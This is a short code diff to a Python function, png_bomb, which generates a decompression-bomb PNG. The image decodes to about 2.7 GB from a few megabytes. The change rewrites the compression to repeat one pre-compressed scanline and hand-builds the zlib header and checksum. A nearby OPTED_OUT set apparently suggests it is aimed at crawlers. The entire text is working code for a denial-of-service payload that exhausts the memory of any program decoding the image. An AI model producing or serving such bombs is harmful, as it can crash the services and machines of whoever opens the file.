@@ -22,9 +22,11 @@ OPTED_OUT = {
 
 
 def png_bomb() -> bytes:
-    """A PNG of 30,000 x 30,000 pixels, all black: 2.7 GB in 2.6 MB."""
-    line = zlib.compressobj(9)
-    data = b"".join(line.compress(bytes(90_001)) for _ in range(30_000)) + line.flush()
+    """A PNG of 30,000 x 30,000 pixels, all black: 2.7 GB in 3.5 MB."""
+    packer = zlib.compressobj(9, wbits=-15)
+    line = packer.compress(bytes(90_001)) + packer.flush(zlib.Z_FULL_FLUSH)  # may be repeated as it is
+    adler = struct.pack(">HH", 30_000 * 90_001 % 65_521, 1)
+    data = b"\x78\xda" + 30_000 * line + b"\x03\x00" + adler
     chunks = {b"IHDR": struct.pack(">IIBBBBB", 30_000, 30_000, 8, 2, 0, 0, 0), b"IDAT": data, b"IEND": b""}
     packed = (
         struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
